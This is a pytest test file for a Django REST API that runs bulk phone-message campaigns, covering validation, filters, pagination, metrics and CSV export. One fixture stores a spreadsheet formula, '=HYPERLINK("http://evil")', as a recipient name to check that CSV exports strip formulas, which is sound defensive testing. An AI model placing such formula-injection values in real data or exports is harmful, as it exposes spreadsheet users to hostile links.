"""The REST API's contract: the roadmap's endpoints, payloads and filters, as a client sees them."""

import csv
import io
import json
from datetime import datetime, timedelta
from unittest import mock
from zoneinfo import ZoneInfo

import pytest
from django.db import OperationalError, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from rest_framework.authtoken.models import Token

from blasts.gateway.client import get_client
from blasts.lifecycle import blast_queue
from blasts.models import Blast, BlastRecipient, OptOut, StatusHistory
from blasts.services import recipient_advance
from blasts.tracking.polling import NOTHING_TO_CHECK, poll_due

from .conftest import make_blast

Status = BlastRecipient.Status
Source = StatusHistory.Source
KL = ZoneInfo("Asia/Kuala_Lumpur")
JSON = "application/json"

# The roadmap's example request, as written (its "..." is one more number here).
ROADMAP_BODY = {
    "blast_tag": "Product Launch",
    "recipients": ["+60123456789", "+60123456790"],
    "message": "Campaign message",
    "follow_up_stage": "Initial",
}
METRIC_KEYS = {"sent", "received", "read", "replied", "closed", "failed", "unknown", "skipped", "queued", "total", "rates", "clicks"}  # fmt: skip
RATE_KEYS = {"received", "read", "replied", "closed"}
CSV_HEADER = ["phone", "name", "status", "status_code", "message_id", "sent_at", "delivered_at", "read_at",
              "replied_at", "closed_at", "failure_reason", "reply_text", "variant", "clicked_at"]  # fmt: skip


@pytest.fixture(autouse=True)
def _db_and_fast_passwords(db, settings):
    """Every test here uses the database; a fast hasher makes the admin_client fixture cheap."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def post(client, url, body=None, **extra):
    return client.post(url, json.dumps(body) if body is not None else None, content_type=JSON, **extra)


def put(recipient, status):
    """Move one fresh (QUEUED) recipient to `status` through the ledger, as sending and tracking would."""
    path = {Status.QUEUED: (), Status.UNKNOWN: (Status.SENDING, Status.UNKNOWN)}.get(status, (status,))
    for step in path:
        assert recipient_advance(recipient=recipient, status=step, source=Source.SEND)


def blast_at(counts, **fields) -> Blast:
    """A blast whose recipients stand at the given statuses, e.g. {Status.READ_ACK: 2, Status.CLOSED: 1}."""
    blast = make_blast(sum(counts.values()), **fields)
    recipients = iter(blast.recipients.order_by("id"))
    for status, count in counts.items():
        for _ in range(count):
            put(next(recipients), status)
    return blast


def created_on(blast, local_time: datetime) -> Blast:
    Blast.objects.filter(pk=blast.pk).update(created_at=local_time.replace(tzinfo=KL))
    return blast


def ids(response) -> list[int]:
    assert response.status_code == 200, response.content
    return [row["blast_id"] for row in response.json()["results"]]


# --- POST /api/blasts --------------------------------------------------------------------------------


def test_create_with_the_roadmaps_example_body_returns_the_blast_id_and_counts(admin_client, settings):
    response = post(admin_client, "/api/blasts", ROADMAP_BODY)

    assert response.status_code == 201, response.content
    blast = Blast.objects.get()
    assert response.json() == {
        "blast_id": blast.pk,
        "created": 2,
        "duplicates": 0,
        "opted_out": 0,
        "canaries": 0,
    }
    assert (blast.tag, blast.message, blast.follow_up_stage) == (
        "Product Launch",
        "Campaign message",
        "Initial",
    )
    assert (blast.state, blast.device, blast.created_by.username) == (
        "draft",
        settings.WSAPME_DEVICE,
        "admin",
    )
    assert list(blast.recipients.values_list("phone", "status")) == [
        ("+60123456789", Status.QUEUED),
        ("+60123456790", Status.QUEUED),
    ]


@pytest.mark.parametrize("url", ["/api/blasts", "/api/blasts/"])
def test_blasts_answer_with_and_without_a_trailing_slash(admin_client, url):
    assert post(admin_client, url, ROADMAP_BODY).status_code == 201
    assert admin_client.get(url).json()["count"] == 1


def test_create_takes_phone_strings_and_phone_name_objects_with_device_and_schedule(admin_client):
    body = {
        "blast_tag": "Raya Promo",
        "message": "Hi {first_name}",
        "recipients": [
            "012-345 6789",
            {"phone": "+60 12-345 6790", "name": "Aisyah Rahman"},
            {"phone": "0123456791"},
        ],
        "device": "5850",
        "scheduled_at": "2030-01-02T09:00:00+08:00",
    }

    response = post(admin_client, "/api/blasts/", body)

    assert response.status_code == 201, response.content
    assert response.json()["created"] == 3
    blast = Blast.objects.get(pk=response.json()["blast_id"])
    assert (blast.device, blast.follow_up_stage) == ("5850", "Initial")  # the stage defaults to Initial
    assert blast.scheduled_at == datetime(2030, 1, 2, 9, tzinfo=KL)
    assert list(blast.recipients.values_list("phone", "name")) == [
        ("+60123456789", ""),
        ("+60123456790", "Aisyah Rahman"),
        ("+60123456791", ""),
    ]


def test_create_counts_duplicates_and_keeps_each_number_once(admin_client):
    body = {
        **ROADMAP_BODY,
        "recipients": ["+60123456789", "0123456789", {"phone": "+60123456789"}, "0198765432"],
    }

    response = post(admin_client, "/api/blasts", body)

    assert response.status_code == 201
    assert {k: response.json()[k] for k in ("created", "duplicates", "opted_out")} == {
        "created": 2,
        "duplicates": 2,
        "opted_out": 0,
    }
    assert BlastRecipient.objects.count() == 2


def test_create_counts_an_opted_out_number_and_creates_it_skipped(admin_client):
    OptOut.objects.create(phone="+60123456790", reason="replied STOP")

    response = post(admin_client, "/api/blasts", ROADMAP_BODY)

    assert response.status_code == 201
    assert response.json()["opted_out"] == 1 and response.json()["created"] == 2
    skipped = BlastRecipient.objects.get(phone="+60123456790")
    assert (skipped.status, skipped.failure_reason) == (Status.SKIPPED, "Opted out")
    assert BlastRecipient.objects.get(phone="+60123456789").status == Status.QUEUED
    metrics = admin_client.get(f"/api/blasts/{skipped.blast_id}/metrics").json()
    assert (metrics["skipped"], metrics["queued"], metrics["sent"]) == (1, 1, 0)


def test_invalid_recipients_are_named_by_their_index_and_nothing_is_created(admin_client):
    body = {
        **ROADMAP_BODY,
        "recipients": ["+60123456789", "nonsense", "+60123456790", 42, {"name": "No phone"}],
    }

    response = post(admin_client, "/api/blasts", body)

    assert response.status_code == 400
    errors = response.json()["recipients"]
    assert set(errors) == {"1", "3", "4"}
    assert errors["1"] == ["'nonsense' is not a phone number."]
    assert all(isinstance(errors[i], list) and errors[i] for i in errors)
    assert Blast.objects.count() == 0 and BlastRecipient.objects.count() == 0


def test_a_bad_number_after_validation_is_named_by_its_index(admin_client):
    # Valid numbers for the country are checked per recipient too: too short, unknown country code.
    body = {**ROADMAP_BODY, "recipients": ["+60123456789", "+6012", "+999123456789"]}

    response = post(admin_client, "/api/blasts", body)

    assert response.status_code == 400
    assert set(response.json()["recipients"]) == {"1", "2"}
    assert Blast.objects.count() == 0


@pytest.mark.parametrize(
    ("change", "field", "message"),
    [
        ({"recipients": []}, "recipients", "No recipients: give at least one phone number."),
        ({"recipients": "+60123456789"}, "recipients", 'Expected a list of items but got type "str".'),
        (
            {"message": "Hi {nama}"},
            "message",
            "No recipient has {nama}: use {name}, {first_name}, {phone} or an attribute your contacts have "
            "(a column of the file or an import, e.g. {city}).",
        ),
        ({"message": ""}, "message", "This field may not be blank."),
        ({"blast_tag": None}, "blast_tag", "This field may not be null."),
        ({"blast_tag": ["Product Launch"]}, "blast_tag", "Not a valid string."),
        ({"blast_tag": "x" * 101}, "blast_tag", "Ensure this field has no more than 100 characters."),
        ({"follow_up_stage": {"a": 1}}, "follow_up_stage", "Not a valid string."),
        ({"device": ""}, "device", "This field may not be blank."),
        ({"scheduled_at": "tomorrow"}, "scheduled_at", None),
        ({"recipients": [{"phone": "+60123456789", "name": 7}]}, "recipients", None),
        ({"recipients": [{"phone": "+60123456789", "email": "a@b.c"}]}, "recipients", None),
    ],
)
def test_invalid_fields_are_400_per_field_and_create_nothing(admin_client, change, field, message):
    response = post(admin_client, "/api/blasts", {**ROADMAP_BODY, **change})

    assert response.status_code == 400, response.content
    errors = response.json()
    assert field in errors
    if message is not None:
        assert errors[field] == [message]
    assert Blast.objects.count() == 0 and BlastRecipient.objects.count() == 0


@pytest.mark.parametrize("missing", ["blast_tag", "message", "recipients"])
def test_a_missing_required_field_is_400_and_creates_nothing(admin_client, missing):
    body = {k: v for k, v in ROADMAP_BODY.items() if k != missing}

    response = post(admin_client, "/api/blasts", body)

    assert (response.status_code, response.json()) == (400, {missing: ["This field is required."]})
    assert Blast.objects.count() == 0


def test_more_recipients_than_the_limit_is_400_and_creates_nothing(admin_client, settings):
    settings.BLAST_MAX_RECIPIENTS = 2
    body = {**ROADMAP_BODY, "recipients": ["+60123456789", "+60123456790", "+60123456791"]}

    response = post(admin_client, "/api/blasts", body)

    assert response.status_code == 400
    (error,) = response.json()["recipients"]
    assert error.startswith("Too many recipients: 3 after removing duplicates; the limit per blast is 2")
    assert Blast.objects.count() == 0 and BlastRecipient.objects.count() == 0


def test_a_recipient_name_with_a_nul_character_is_400_and_creates_nothing(admin_client):
    body = {**ROADMAP_BODY, "recipients": [{"phone": "+60123456789", "name": "Ali\u0000"}]}

    response = post(admin_client, "/api/blasts", body)

    assert response.status_code == 400 and "0" in response.json()["recipients"]
    assert Blast.objects.count() == 0


def test_duplicates_do_not_count_towards_the_limit(admin_client, settings):
    settings.BLAST_MAX_RECIPIENTS = 2
    body = {**ROADMAP_BODY, "recipients": ["+60123456789", "+60123456790", "0123456789"]}
    assert post(admin_client, "/api/blasts", body).status_code == 201


def test_a_body_that_is_not_a_json_object_is_400(admin_client):
    assert post(admin_client, "/api/blasts", ["+60123456789"]).status_code == 400
    response = admin_client.post("/api/blasts", "{not json", content_type=JSON)
    assert response.status_code == 400 and "detail" in response.json()
    assert Blast.objects.count() == 0


# --- GET /api/blasts ------------------------------------------------------------------------------------


def test_list_is_paginated_and_each_blast_has_the_roadmap_fields_and_metrics(admin_client):
    blast = blast_at({Status.READ_ACK: 1, Status.QUEUED: 1}, tag="Product Launch")

    body = admin_client.get("/api/blasts").json()

    assert set(body) == {"count", "next", "previous", "results"}
    assert (body["count"], body["next"], body["previous"]) == (1, None, None)
    (row,) = body["results"]
    assert (row["blast_id"], row["blast_tag"], row["follow_up_stage"], row["state"]) == (
        blast.pk,
        "Product Launch",
        "Initial",
        "draft",
    )
    assert set(row["metrics"]) == METRIC_KEYS and set(row["metrics"]["rates"]) == RATE_KEYS
    assert {
        k: row["metrics"][k] for k in ("sent", "received", "read", "replied", "closed", "queued", "total")
    } == {
        "sent": 1,
        "received": 1,
        "read": 1,
        "replied": 0,
        "closed": 0,
        "queued": 1,
        "total": 2,
    }


def test_list_is_newest_first_by_default(admin_client):
    old, new = make_blast(1), make_blast(1)
    created_on(old, datetime(2025, 1, 1, 9))
    created_on(new, datetime(2025, 1, 2, 9))
    assert ids(admin_client.get("/api/blasts")) == [new.pk, old.pk]


@pytest.fixture
def january(settings):
    """Blasts either side of midnight in Kuala Lumpur, where midnight is 16:00 UTC the day before."""
    settings.TIME_ZONE = "Asia/Kuala_Lumpur"  # the default; days are the marketers' local days
    return {
        "18th late": created_on(make_blast(1), datetime(2025, 1, 18, 23, 30)),  # 15:30 UTC on the 18th
        "19th early": created_on(make_blast(1), datetime(2025, 1, 19, 0, 30)),  # 16:30 UTC on the 18th
        "31st": created_on(make_blast(1), datetime(2025, 1, 31, 12, 0)),
        "1 Feb early": created_on(make_blast(1), datetime(2025, 2, 1, 0, 10)),  # 16:10 UTC on 31 Jan
        "31 Dec": created_on(make_blast(1), datetime(2024, 12, 31, 23, 59)),
    }


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("date=2025-01-18", ["18th late"]),
        ("date=2025-01-19", ["19th early"]),
        ("date=2025-01-20", []),
        ("date_from=2025-01-01&date_to=2025-01-31", ["31st", "19th early", "18th late"]),
        ("date_from=2025-01-19", ["1 Feb early", "31st", "19th early"]),
        ("date_to=2025-01-18", ["18th late", "31 Dec"]),
        ("date_from=2025-01-31&date_to=2025-01-31", ["31st"]),
    ],
)
def test_date_filters_use_the_local_day_and_include_both_ends(admin_client, january, query, expected):
    assert ids(admin_client.get(f"/api/blasts?{query}")) == [january[name].pk for name in expected]


def test_tag_filter_is_a_case_insensitive_exact_match(admin_client):
    launch = make_blast(1, tag="Product Launch")
    lower = make_blast(1, tag="product launch")
    make_blast(1, tag="Product Launch 2")
    make_blast(1, tag="Raya")

    assert set(ids(admin_client.get("/api/blasts?tag=Product+Launch"))) == {launch.pk, lower.pk}
    assert set(ids(admin_client.get("/api/blasts?tag=PRODUCT%20LAUNCH"))) == {launch.pk, lower.pk}
    assert ids(admin_client.get("/api/blasts?tag=Product")) == []


def test_stage_filter_matches_the_follow_up_stage(admin_client):
    initial = make_blast(1, follow_up_stage="Initial")
    follow_up = make_blast(1, follow_up_stage="Follow-up 1")

    assert ids(admin_client.get("/api/blasts?stage=Initial")) == [initial.pk]
    assert ids(admin_client.get("/api/blasts?stage=follow-up+1")) == [follow_up.pk]


def test_state_filter_matches_the_blast_state(admin_client):
    draft, queued = make_blast(1), make_blast(1)
    blast_queue(blast=queued)

    assert ids(admin_client.get("/api/blasts?state=queued")) == [queued.pk]
    assert ids(admin_client.get("/api/blasts?state=draft")) == [draft.pk]
    assert ids(admin_client.get("/api/blasts?state=paused")) == []


def test_filters_combine(admin_client, january):
    Blast.objects.filter(pk=january["31st"].pk).update(tag="Product Launch")
    query = "date_from=2025-01-01&date_to=2025-01-31&tag=product+launch&stage=Initial&state=draft"
    assert ids(admin_client.get(f"/api/blasts?{query}")) == [january["31st"].pk]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("date=2025-02-30", "date"),
        ("date=18-01-2025x", "date"),
        ("date_from=yesterday", "date_from"),
        ("date_to=2025-1-", "date_to"),
        ("state=exploded", "state"),
        ("state=QUEUED", "state"),
    ],
)
def test_an_invalid_filter_value_is_400_naming_the_field(admin_client, query, field):
    make_blast(1)
    response = admin_client.get(f"/api/blasts?{query}")
    assert response.status_code == 400
    assert list(response.json()) == [field]


@pytest.mark.parametrize(
    ("ordering", "expected"),
    [
        ("created_at", ["b", "c", "a"]),
        ("-created_at", ["a", "c", "b"]),
        ("tag", ["a", "b", "c"]),
        ("-tag", ["c", "b", "a"]),
    ],
)
def test_ordering(admin_client, ordering, expected):
    created_on(make_blast(1, tag="a"), datetime(2025, 1, 3))
    created_on(make_blast(1, tag="b"), datetime(2025, 1, 1))
    created_on(make_blast(1, tag="c"), datetime(2025, 1, 2))

    rows = admin_client.get(f"/api/blasts?ordering={ordering}").json()["results"]

    assert [row["blast_tag"] for row in rows] == expected


def test_an_unknown_ordering_field_is_ignored(admin_client):
    make_blast(1)
    assert admin_client.get("/api/blasts?ordering=message").status_code == 200


def test_page_size_and_page(admin_client):
    blasts = [created_on(make_blast(1), datetime(2025, 1, day)) for day in (1, 2, 3)]

    first = admin_client.get("/api/blasts?page_size=2").json()
    second = admin_client.get("/api/blasts?page_size=2&page=2").json()

    assert first["count"] == 3 and [r["blast_id"] for r in first["results"]] == [blasts[2].pk, blasts[1].pk]
    assert first["next"].endswith("/api/blasts?page=2&page_size=2") and first["previous"] is None
    assert [r["blast_id"] for r in second["results"]] == [blasts[0].pk] and second["next"] is None
    assert admin_client.get("/api/blasts?page=3&page_size=2").status_code == 404


def test_list_takes_the_same_number_of_queries_for_1_and_100_blasts(admin_client, django_assert_num_queries):
    url = "/api/blasts?page_size=100"
    blast_at({Status.READ_ACK: 1, Status.QUEUED: 1})
    with CaptureQueriesContext(connections["default"]) as one:
        assert len(admin_client.get(url).json()["results"]) == 1

    for _ in range(99):
        blast_at({Status.DELIVERY_ACK: 1, Status.FAILED: 1})

    with django_assert_num_queries(len(one.captured_queries)):
        body = admin_client.get(url).json()
    assert len(body["results"]) == 100
    assert sum(row["metrics"]["failed"] for row in body["results"]) == 99


# --- GET /api/blasts/{id} --------------------------------------------------------------------------------


def test_detail_has_metrics_and_paginated_recipients_with_status_names(admin_client):
    blast = blast_at({Status.READ_ACK: 1, Status.PENDING: 1, Status.QUEUED: 1}, tag="Product Launch")

    body = admin_client.get(f"/api/blasts/{blast.pk}").json()

    assert (body["blast_id"], body["blast_tag"], body["message"]) == (
        blast.pk,
        "Product Launch",
        "Hello {name}",
    )
    assert (body["metrics"]["sent"], body["metrics"]["read"]) == (2, 1)
    recipients = body["recipients"]
    assert set(recipients) == {"count", "next", "previous", "results"} and recipients["count"] == 3
    assert [r["status"] for r in recipients["results"]] == ["READ_ACK", "PENDING", "QUEUED"]
    first = recipients["results"][0]
    assert (first["phone"], first["name"], first["blast"]) == (
        blast.recipients.first().phone,
        "Name 1",
        blast.pk,
    )
    assert first["read_at"] is not None and first["replied_at"] is None


def test_detail_recipients_are_paginated_with_page_size(admin_client):
    blast = make_blast(3)
    body = admin_client.get(f"/api/blasts/{blast.pk}/?page_size=2&page=2").json()
    assert body["recipients"]["count"] == 3 and len(body["recipients"]["results"]) == 1


@pytest.mark.parametrize(
    ("method", "suffix"),
    [
        ("get", ""),
        ("get", "/metrics"),
        ("get", "/stuck-recipients"),
        ("get", "/recipients"),
        ("post", "/send"),
        ("post", "/pause"),
        ("post", "/resume"),
        ("post", "/cancel"),
        ("post", "/check-status"),
    ],
)
def test_a_missing_blast_is_404(admin_client, method, suffix):
    make_blast(1)
    assert getattr(admin_client, method)(f"/api/blasts/424242{suffix}").status_code == 404
    assert getattr(admin_client, method)(f"/api/blasts/not-a-number{suffix}").status_code == 404


# --- send, pause, resume, cancel -------------------------------------------------------------------------


def test_send_queues_a_draft_with_202_and_a_second_send_is_409(admin_client):
    blast = make_blast(2)

    response = admin_client.post(f"/api/blasts/{blast.pk}/send")

    assert response.status_code == 202
    assert (response.json()["blast_id"], response.json()["state"]) == (blast.pk, "queued")
    assert response.json()["metrics"]["queued"] == 2
    blast.refresh_from_db()
    assert blast.state == Blast.State.QUEUED

    again = admin_client.post(f"/api/blasts/{blast.pk}/send/")
    assert (again.status_code, again.json()) == (
        409,
        {"detail": "Only a draft blast can be sent; this one is queued."},
    )


def test_send_without_recipients_is_409(admin_client):
    blast = make_blast(0)
    response = admin_client.post(f"/api/blasts/{blast.pk}/send")
    assert (response.status_code, response.json()) == (409, {"detail": "The blast has no recipients."})
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT


def test_pause_a_queued_blast_and_resume_it(admin_client):
    blast = make_blast(1)
    blast_queue(blast=blast)

    paused = admin_client.post(f"/api/blasts/{blast.pk}/pause")
    assert paused.status_code == 200
    assert (paused.json()["state"], paused.json()["state_reason"]) == ("paused", "Paused by admin (API).")

    resumed = admin_client.post(f"/api/blasts/{blast.pk}/resume")
    assert (resumed.status_code, resumed.json()["state"]) == (200, "queued")
    blast.refresh_from_db()
    assert blast.state == Blast.State.QUEUED


def test_pause_a_draft_is_409(admin_client):
    blast = make_blast(1)
    response = admin_client.post(f"/api/blasts/{blast.pk}/pause")
    assert (response.status_code, response.json()) == (
        409,
        {"detail": "Only a queued or sending blast can be paused; this one is draft."},
    )
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT


def test_resume_a_blast_that_is_not_paused_is_409(admin_client):
    blast = make_blast(1)
    response = admin_client.post(f"/api/blasts/{blast.pk}/resume")
    assert response.status_code == 409
    assert response.json() == {"detail": "Only a paused blast can be resumed; this one is draft."}


def test_cancel_ends_the_blast_and_cancelling_again_is_409(admin_client):
    blast = make_blast(1)
    blast_queue(blast=blast)

    response = admin_client.post(f"/api/blasts/{blast.pk}/cancel")

    assert (response.status_code, response.json()["state"]) == (200, "cancelled")
    assert response.json()["state_reason"] == "Cancelled by admin (API)."
    assert response.json()["finished_at"] is not None
    again = admin_client.post(f"/api/blasts/{blast.pk}/cancel")
    assert (again.status_code, again.json()) == (
        409,
        {"detail": "Only a draft, queued, sending or paused blast can be cancelled; this one is cancelled."},
    )
    assert admin_client.post(f"/api/blasts/{blast.pk}/send").status_code == 409
    assert admin_client.post(f"/api/blasts/{blast.pk}/resume").status_code == 409


def test_state_changes_are_post_only(admin_client):
    blast = make_blast(1)
    for action in ("send", "pause", "resume", "cancel", "check-status"):
        assert admin_client.get(f"/api/blasts/{blast.pk}/{action}").status_code == 405
    blast.refresh_from_db()
    assert blast.state == Blast.State.DRAFT


# --- check-status --------------------------------------------------------------------------------------


def test_check_status_queues_unfinished_messages_at_once_and_the_poller_counts_updates(
    admin_client, mocked_gateway
):
    blast = blast_at({Status.PENDING: 2, Status.SERVER_ACK: 1, Status.READ_ACK: 1, Status.QUEUED: 1})
    for recipient in blast.recipients.all():
        BlastRecipient.objects.filter(pk=recipient.pk).update(message_id=f"M{recipient.pk}")
    first, second, server_ack, read, _ = blast.recipients.order_by("id")
    mocked_gateway.answers[first.message_id] = {"success": True, "data": {"status": "DELIVERY_ACK"}}
    mocked_gateway.answers[server_ack.message_id] = {"success": True, "status": "READ_ACK"}
    mocked_gateway.answers[read.message_id] = {
        "success": True,
        "status": "DELIVERY_ACK",
    }  # final: never asked

    response = admin_client.post(f"/api/blasts/{blast.pk}/check-status")

    assert (response.status_code, response.json()["check"]["queued"]) == (202, 3)
    assert not mocked_gateway.calls  # the request asks the gateway nothing: the poller does
    poll_due(client=get_client())
    check = blast.status_checks.get()
    assert (check.checked, check.updated, check.errors) == (3, 2, 0) and check.finished_at
    assert sorted(mocked_gateway.calls) == sorted(
        [first.message_id, second.message_id, server_ack.message_id]
    )
    statuses = dict(blast.recipients.values_list("pk", "status"))
    assert (statuses[first.pk], statuses[second.pk], statuses[server_ack.pk], statuses[read.pk]) == (
        Status.DELIVERY_ACK,
        Status.PENDING,
        Status.READ_ACK,
        Status.READ_ACK,
    )
    assert first.history.latest("id").source == Source.POLL


def test_check_status_of_a_blast_with_nothing_sent_checks_nothing(admin_client, mocked_gateway):
    blast = make_blast(2)
    response = admin_client.post(f"/api/blasts/{blast.pk}/check-status/")
    assert (response.status_code, response.json()) == (200, {"check": None, "detail": NOTHING_TO_CHECK})
    assert not mocked_gateway.calls and not blast.status_checks.exists()


# --- metrics and stuck recipients --------------------------------------------------------------------------


FUNNEL_MIX = {
    Status.QUEUED: 1,
    Status.SENDING: 1,
    Status.UNKNOWN: 1,
    Status.SKIPPED: 1,
    Status.FAILED: 1,
    Status.PENDING: 1,
    Status.DELIVERY_ACK: 2,
    Status.READ_ACK: 2,
    Status.REPLIED: 1,
    Status.CLOSED: 1,
}


def test_metrics_counts_each_stage_cumulatively_and_rates_of_sent(admin_client):
    blast = blast_at(FUNNEL_MIX)

    response = admin_client.get(f"/api/blasts/{blast.pk}/metrics")

    assert response.status_code == 200
    assert response.json() == {
        # The roadmap's five, cumulative: replied includes closed, read includes both, ...
        "sent": 7,
        "received": 6,
        "read": 4,
        "replied": 2,
        "closed": 1,
        # Off the funnel, and not sent yet.
        "failed": 1,
        "unknown": 1,
        "skipped": 1,
        "queued": 2,
        "total": 12,
        # Each stage / sent, rounded to 4 places.
        "rates": {"received": 0.8571, "read": 0.5714, "replied": 0.2857, "closed": 0.1429},
        # Beside the funnel (reporting/clicks.py): nobody clicked here.
        "clicks": {"clicked": 0, "rate": 0.0, "first_click_at": None, "median_seconds_to_click": None},
    }


def test_metrics_of_a_blast_not_sent_yet_are_zero_with_zero_rates(admin_client):
    blast = make_blast(2)
    body = admin_client.get(f"/api/blasts/{blast.pk}/metrics/").json()
    assert {k: body[k] for k in ("sent", "received", "read", "replied", "closed")} == dict.fromkeys(
        ("sent", "received", "read", "replied", "closed"), 0
    )
    assert (body["queued"], body["total"], body["rates"]) == (2, 2, dict.fromkeys(RATE_KEYS, 0.0))


def test_server_ack_is_sent_but_not_received(admin_client):
    blast = blast_at({Status.SERVER_ACK: 1, Status.DELIVERY_ACK: 1})
    body = admin_client.get(f"/api/blasts/{blast.pk}/metrics").json()
    assert (body["sent"], body["received"], body["rates"]["received"]) == (2, 1, 0.5)


def test_stuck_recipients_in_funnel_order_with_counts_percent_and_age_buckets(admin_client):
    blast = blast_at(FUNNEL_MIX)
    now = timezone.now()
    ages = [
        timedelta(minutes=30),
        timedelta(hours=3),
        timedelta(hours=12),
        timedelta(days=2),
        timedelta(days=5),
    ]
    # The two READ_ACK recipients: one 3 hours there, one 5 days; the two delivered: 12 hours and 2 days.
    read = list(blast.recipients.filter(status=Status.READ_ACK).order_by("id"))
    delivered = list(blast.recipients.filter(status=Status.DELIVERY_ACK).order_by("id"))
    for recipient, age in [
        (read[0], ages[1]),
        (read[1], ages[4]),
        (delivered[0], ages[2]),
        (delivered[1], ages[3]),
    ]:
        BlastRecipient.objects.filter(pk=recipient.pk).update(status_changed_at=now - age)

    response = admin_client.get(f"/api/blasts/{blast.pk}/stuck-recipients")

    assert response.status_code == 200
    rows = response.json()
    assert [row["status"] for row in rows] == [
        "QUEUED", "SENDING", "PENDING", "SERVER_ACK", "DELIVERY_ACK", "READ_ACK", "REPLIED", "CLOSED",
    ]  # fmt: skip
    by_status = {row["status"]: row for row in rows}
    assert {s: r["count"] for s, r in by_status.items()} == {
        "QUEUED": 1, "SENDING": 1, "PENDING": 1, "SERVER_ACK": 0, "DELIVERY_ACK": 2, "READ_ACK": 2, "REPLIED": 1,
        "CLOSED": 1,
    }  # fmt: skip
    # A share of every recipient of the blast (12, failures and skips included), to one decimal.
    assert by_status["DELIVERY_ACK"]["percent"] == 16.7 and by_status["QUEUED"]["percent"] == 8.3
    assert by_status["SERVER_ACK"]["percent"] == 0.0
    assert by_status["READ_ACK"]["label"] == "Read"
    assert by_status["READ_ACK"]["ages"] == {"0-1h": 0, "1-6h": 1, "6-24h": 0, "1-3d": 0, ">3d": 1}
    assert by_status["DELIVERY_ACK"]["ages"] == {"0-1h": 0, "1-6h": 0, "6-24h": 1, "1-3d": 1, ">3d": 0}
    assert by_status["PENDING"]["ages"] == {"0-1h": 1, "1-6h": 0, "6-24h": 0, "1-3d": 0, ">3d": 0}
    assert by_status["SERVER_ACK"]["ages"] == dict.fromkeys(["0-1h", "1-6h", "6-24h", "1-3d", ">3d"], 0)
    for row in rows:
        assert sum(row["ages"].values()) == row["count"]


def test_stuck_recipients_of_an_empty_blast_are_zero(admin_client):
    blast = make_blast(0)
    rows = admin_client.get(f"/api/blasts/{blast.pk}/stuck-recipients/").json()
    assert len(rows) == 8 and all(row["count"] == 0 and row["percent"] == 0.0 for row in rows)


# --- GET /api/blasts/{id}/recipients --------------------------------------------------------------------


@pytest.fixture
def mixed_blast():
    blast = blast_at(FUNNEL_MIX)
    first = blast.recipients.order_by("id").first()
    BlastRecipient.objects.filter(pk=first.pk).update(name='=HYPERLINK("http://evil")', message_id="ABCD-42")
    return blast


def recipient_statuses(response) -> list[str]:
    assert response.status_code == 200, response.content
    return [row["status"] for row in response.json()["results"]]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("status=READ_ACK", ["READ_ACK", "READ_ACK"]),
        ("status=CLOSED", ["CLOSED"]),
        ("status=SERVER_ACK", []),
        pytest.param("stage=replied", ["REPLIED", "CLOSED"]),  # cumulative: closed replied too
        pytest.param("stage=read", ["READ_ACK", "READ_ACK", "REPLIED", "CLOSED"]),
        pytest.param(
            "stage=received",
            ["DELIVERY_ACK", "DELIVERY_ACK", "READ_ACK", "READ_ACK", "REPLIED", "CLOSED"],
        ),
        pytest.param("stage=closed", ["CLOSED"]),
        pytest.param("stage=failed", ["FAILED"]),
        pytest.param("stage=unknown", ["UNKNOWN"]),
        pytest.param("stage=skipped", ["SKIPPED"]),
        pytest.param("stage=not_sent", ["QUEUED", "SENDING"]),
        pytest.param("stage=read&status=REPLIED", ["REPLIED"]),
    ],
)
def test_recipients_filter_by_status_and_stage(admin_client, query, expected):
    # Recipients come in the order they were added; FUNNEL_MIX adds them in this order.
    blast = blast_at(FUNNEL_MIX)
    assert recipient_statuses(admin_client.get(f"/api/blasts/{blast.pk}/recipients?{query}")) == expected


def test_recipient_stage_filter_works_when_the_stage_is_also_the_blasts_follow_up_stage(admin_client):
    # The one case the BlastFilter collision lets through: a blast whose follow-up stage is "Replied".
    blast = blast_at({Status.READ_ACK: 1, Status.REPLIED: 1, Status.CLOSED: 1}, follow_up_stage="Replied")
    response = admin_client.get(f"/api/blasts/{blast.pk}/recipients?stage=replied")
    assert recipient_statuses(response) == ["REPLIED", "CLOSED"]


def test_recipients_search_matches_phone_name_or_message_id(admin_client, mixed_blast):
    url = f"/api/blasts/{mixed_blast.pk}/recipients"
    second = mixed_blast.recipients.order_by("id")[1]

    def found(q):
        return [row["id"] for row in admin_client.get(url, {"q": q}).json()["results"]]

    assert found(second.phone[-7:]) == [second.pk]
    assert found("name 2") == [second.pk]  # case-insensitive
    assert found("abcd-4") == [mixed_blast.recipients.order_by("id")[0].pk]
    assert found("  name 2 ") == [second.pk]
    assert found("nobody") == []


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("status=READ", "status"),
        ("status=50", "status"),
        pytest.param("stage=bought", "stage"),
    ],
)
def test_an_invalid_recipient_filter_is_400_naming_the_field(admin_client, query, field):
    blast = make_blast(1)
    response = admin_client.get(f"/api/blasts/{blast.pk}/recipients?{query}")
    assert response.status_code == 400
    assert list(response.json()) == [field]


def test_recipients_are_paginated(admin_client):
    blast = make_blast(3)
    body = admin_client.get(f"/api/blasts/{blast.pk}/recipients/?page_size=2").json()
    assert (body["count"], len(body["results"])) == (3, 2) and "page=2" in body["next"]


def test_recipients_of_another_blast_are_not_listed(admin_client):
    blast, other = make_blast(2), make_blast(3)
    body = admin_client.get(f"/api/blasts/{blast.pk}/recipients").json()
    assert body["count"] == 2 and {row["blast"] for row in body["results"]} == {blast.pk}
    assert other.recipients.count() == 3


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_recipients_as_csv_have_a_header_status_names_and_no_formulas(admin_client, mixed_blast):
    response = admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients?format=csv")

    assert response["Content-Disposition"] == f'attachment; filename="blast-{mixed_blast.pk}-recipients.csv"'
    header, *rows = read_csv(response)
    assert header == CSV_HEADER
    assert len(rows) == 12
    assert [row[3] for row in rows] == [status.name for status, n in FUNNEL_MIX.items() for _ in range(n)]
